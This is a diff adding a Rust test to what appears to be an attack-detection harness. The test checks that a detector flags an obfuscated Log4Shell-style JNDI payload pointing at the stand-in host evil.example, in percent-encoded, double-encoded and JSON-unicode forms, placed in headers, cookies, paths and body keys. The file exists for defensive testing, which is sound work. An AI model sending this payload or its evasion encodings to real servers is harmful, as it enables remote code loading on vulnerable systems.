@@ -499,3 +499,19 @@ fn random_text_never_panics() {
         }
     }
 }
+
+/// The placement-invariance suite's nested-lookup payload (services/tests/invariance), in the
+/// encodings this harness can undo and cut at `/` as a path segment is: caught everywhere.
+#[test]
+fn invariance_suite_jndi_payload() {
+    let payload = "${${lower:j}ndi:${lower:l}dap://evil.example/a}";
+    let percent_all = |t: &str| t.bytes().map(|b| format!("%{b:02X}")).collect::<String>();
+    let json_u = |t: &str| t.chars().map(|c| format!("\\u{:04x}", c as u32)).collect::<String>();
+    let mut forms = vec![payload.to_string(), percent_all(payload), percent_all(&percent_all(payload)), json_u(payload)];
+    forms.extend(payload.split('/').filter(|s| s.contains("${")).map(str::to_string));
+    for (place, name) in [(Place::Header, "user-agent"), (Place::Cookie, "session"), (Place::Path, ""), (Place::BodyKey, "k")] {
+        for form in &forms {
+            assert!(detect(form, place, name, "deserialization", 1).is_some(), "{form} in {place:?}");
+        }
+    }
+}
